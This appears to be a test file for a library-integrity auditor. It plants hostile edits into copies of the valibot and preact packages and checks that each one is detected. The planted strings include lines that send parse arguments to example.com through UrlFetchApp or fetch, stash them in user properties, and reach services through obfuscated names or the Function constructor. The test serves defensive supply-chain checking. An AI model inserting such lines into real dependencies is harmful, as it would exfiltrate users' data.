/** Packages that have changed: what of them is built in, and what it names. */
import {cpSync, mkdirSync, readdirSync, rmSync, symlinkSync} from 'node:fs';
import {join} from 'node:path';
import {checkLibraries} from '../../audit/libraries.ts';
import {edit, project, withSources} from './planted.ts';

const VALIBOT = 'node_modules/valibot/dist/index.mjs';
const PREACT = 'node_modules/preact/dist/preact.mjs';

/** A copy of the project in which the packages' files can be changed. */
function withPackages<T>(work: (root: string) => T): Promise<T> {
  return withSources([], root => {
    const [own, all] = [join(root, 'node_modules'), join(project, 'node_modules')];
    rmSync(own);
    mkdirSync(own);
    for (const name of readdirSync(all)) {
      if (['valibot', 'preact'].includes(name)) cpSync(join(all, name), join(own, name), {recursive: true});
      else symlinkSync(join(all, name), join(own, name), 'junction');
    }
    return work(root);
  });
}

const planted: Array<[what: string, file: string, from: RegExp, to: string, said: RegExp]> = [
  [
    'stores',
    VALIBOT,
    /function safeParse\(.*?\) \{/,
    '$&\n\tPropertiesService.getUserProperties().setProperty("x", JSON.stringify(arguments));',
    /valibot.* names PropertiesService, which no library may/,
  ],
  [
    'sends',
    VALIBOT,
    /function safeParse\(.*?\) \{/,
    '$&\n\tUrlFetchApp.fetch("https://example.com/" + JSON.stringify(arguments));',
    /valibot.* names UrlFetchApp/,
  ],
  [
    'logs',
    VALIBOT,
    /function safeParse\(.*?\) \{/,
    '$&\n\tconsole.error(arguments);',
    /valibot.* names console/,
  ],
  [
    'comes to a service by a made-up name',
    VALIBOT,
    /function safeParse\(.*?\) \{/,
    '$&\n\tglobalThis["Url" + "FetchApp"].fetch("x");',
    /valibot.* names globalThis/,
  ],
  [
    'makes code of text',
    VALIBOT,
    /function safeParse\(.*?\) \{/,
    '$&\n\t(() => 0).constructor("return this")();',
    /valibot.* through "constructor"/,
  ],
  [
    'does something else, naming nothing',
    VALIBOT,
    /function safeParse\(.*?\) \{/,
    '$&\n\tif (Math.random() > 2) return null;',
    /valibot 1\.5\.0 is not what audit\/libraries\.json knows; .* [0-9a-f]{64}/,
  ],
  ['sends, in the page', PREACT, /^/, 'fetch("https://example.com");\n', /preact.* names fetch/],
];

test('what is built in is what is pinned, and names nothing but the language', async () => {
  expect(await checkLibraries(project)).toEqual([]);
});

test.each(planted)('a library that %s is found', async (_, file, from, to, said) => {
  const breaches = await withPackages(root => {
    edit(root, {[file]: text => text.replace(from, to)});
    return checkLibraries(root);
  });
  expect(breaches.map(({text}) => text)).toContainEqual(expect.stringMatching(said));
  expect(breaches.map(({text}) => text)).toContainEqual(
    expect.stringMatching(/is not what audit\/libraries\.json knows/),
  );
});
